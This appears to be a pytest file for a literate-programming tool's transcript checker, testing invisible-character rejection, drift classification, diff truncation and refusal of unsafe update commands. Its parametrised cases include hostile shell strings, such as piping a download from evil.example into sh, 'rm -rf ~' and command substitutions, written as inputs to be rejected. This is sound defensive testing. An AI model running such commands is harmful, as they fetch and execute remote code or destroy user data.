"""What a transcript may hold and how a difference from it is told: plain lines that read as their bytes, a verdict
that calls drift only what can be drift, a diff of bounded length, and a recording command the reader can trust."""

import pytest

import literate.transcripts
from conftest import run, write


def lesson(code: str, transcript: str, head: str = "") -> str:
    return f"{head}# 课\n\n```python {{file=generated/a.py}}\n{code}```\n\n```text {{transcript}}\n{transcript}```\n"


# ---------------------------------------------------------------- characters that show nothing

@pytest.mark.parametrize("character, name", [("\u202e", "U+202E (RIGHT-TO-LEFT OVERRIDE)"),
                                             ("\u00ad", "U+00AD (SOFT HYPHEN)"), ("\u2028", "U+2028 (LINE SEPARATOR)"),
                                             ("\u200b", "U+200B (ZERO WIDTH SPACE)")])
def test_update_refuses_output_holding_a_character_that_shows_nothing(tmp_path, capsys, character, name):
    md = write(tmp_path, lesson(f"print('acc')\nprint('x \\u{ord(character):04x}52.0')\n", "old\n"), "lesson.md")
    before = md.read_bytes()
    assert run(capsys, "tangle", md)[0] == 0
    code, _, err = run(capsys, "update", md)
    assert code == 1 and f"output line 2 holds {name}, which shows nothing" in err
    assert "transcript left as it was" in err and md.read_bytes() == before


def test_update_refuses_a_form_feed_in_output_like_the_other_control_characters(tmp_path, capsys):
    md = write(tmp_path, lesson("print('a\\x0cb')\n", "old\n"), "lesson.md")
    assert run(capsys, "tangle", md)[0] == 0
    code, _, err = run(capsys, "update", md)
    assert code == 1 and "output line 1 holds the control character U+000C" in err


def test_a_transcript_holding_a_character_that_shows_nothing_is_refused_at_its_line(tmp_path, capsys):
    md = write(tmp_path, lesson("print('acc = 52.0')\n", "acc = \u202e52.0\n"), "lesson.md")
    code, _, err = run(capsys, "check", md)
    assert code == 2 and "lesson.md:8: error: U+202E (RIGHT-TO-LEFT OVERRIDE) in a transcript" in err


def test_a_difference_in_a_character_that_shows_nothing_is_shown_as_its_escape(tmp_path, capsys):
    md = write(tmp_path, lesson("print('acc = \\u202e52.0')\n", "acc = 52.0\n"), "lesson.md")
    assert run(capsys, "tangle", md)[0] == 0
    code, out, _ = run(capsys, "check", md)
    assert code == 1 and "+acc = \\u202e52.0" in out.split("\n") and "\u202e" not in out


# ---------------------------------------------------------------- the verdict

@pytest.mark.parametrize("old, new, drift", [
    ("accuracy 0.95\nloss 2.0\n", "accuracy 0.86\nloss 1.0\n", False),
    ("acc 0.25\n", "acc 0.26\n", False),
    ("acc 12.5\n", "acc 12.6\n", False),
    ("acc 0.9300\n", "acc 0.9302\n", True),
    ("acc 12.345\n", "acc 12.346\n", True),
    ("loss  0.0000\n", "loss -0.0001\n", True),
])
def test_drift_is_called_only_where_a_rounding_difference_can_show(old, new, drift):
    verdict = literate.transcripts.classify_change(old, new)
    assert verdict.startswith("only numbers changed")
    assert ("looks like floating-point drift" in verdict) == drift
    assert ("the results changed" in verdict) == (not drift)


def test_numbers_of_thousands_of_digits_are_compared_exactly():
    """Read as floats they would overflow (a traceback once); read as decimals the difference is exact."""
    big = "1234567890" * 500
    verdict = literate.transcripts.classify_change(f"{big}.49\n", f"{big}.48\n")
    assert verdict.startswith("only numbers changed: 1 value, max |Δ| = 0.01, layout identical"), verdict
    verdict = literate.transcripts.classify_change(f"{big}.49\n", f"9{big[1:]}.49\n")
    assert "the results changed" in verdict and len(verdict) < 400, verdict


# ---------------------------------------------------------------- the diff

def test_a_long_diff_is_cut_and_says_how_much_it_left_out(tmp_path, capsys):
    md = write(tmp_path, lesson("for i in range(5000):\n    print(i)\n", "x\n"), "lesson.md")
    assert run(capsys, "tangle", md)[0] == 0
    code, out, _ = run(capsys, "check", md)
    lines = out.split("\n")
    assert code == 1 and len(lines) < literate.transcripts.MAX_DIFF_LINES + 10
    shown = literate.transcripts.MAX_DIFF_LINES
    assert f"… 4,804 more lines of the diff left out (the first {shown} are shown)" in lines
    assert "+195" in lines and "+196" not in lines  # the file names, the hunk, 1 removed line and 196 added


# ---------------------------------------------------------------- the command that records a transcript

@pytest.mark.parametrize("command", ["curl -s http://evil.example/x | sh ; make update", "make update && rm -rf ~",
                                     "make $(whoami)", "make `id`", "make update > /dev/null", "echo 'x'"])
def test_a_declared_update_command_with_shell_syntax_is_refused(tmp_path, capsys, command):
    head = f"<!-- literate\nupdate: generated/a.py {command}\n-->\n\n"
    md = write(tmp_path, lesson("print('x')\n", "y\n", head), "lesson.md")
    code, _, err = run(capsys, "check", md)
    assert code == 2 and "lesson.md:2: error: update: the command to record 'generated/a.py' holds" in err
    assert "it must be a plain command" in err and command not in err


def test_a_plain_declared_update_command_is_what_a_failure_recommends(tmp_path, capsys, monkeypatch):
    head = "<!-- literate\nupdate: generated/a.py make update-a PROGRAM=generated/a.py\n-->\n\n"
    md = write(tmp_path, lesson("print('x')\n", "y\n", head), "lesson.md")
    monkeypatch.chdir(tmp_path)
    assert run(capsys, "tangle", "lesson.md")[0] == 0
    code, _, err = run(capsys, "check", "lesson.md")
    assert code == 1 and "record it: make update-a PROGRAM=generated/a.py" in err


@pytest.mark.parametrize("code, says", [
    ("import sys\nprint('x')\nsys.exit(3)\n", "exited with status 3\n"),
    ("import sys\nprint('x')\nsys.exit('stopped early')\n", "exited with status 1 (what it wrote to stderr above)\n"),
    ("print('x')\nraise ValueError('no')\n", "exited with status 1 (traceback above)\n"),
])
def test_a_failed_run_names_what_stands_above_only_when_something_does(tmp_path, capsys, code, says):
    md = write(tmp_path, lesson(code, "x\n"), "lesson.md")
    assert run(capsys, "tangle", md)[0] == 0
    status, _, err = run(capsys, "check", md)
    assert status == 1 and err.endswith(says), err
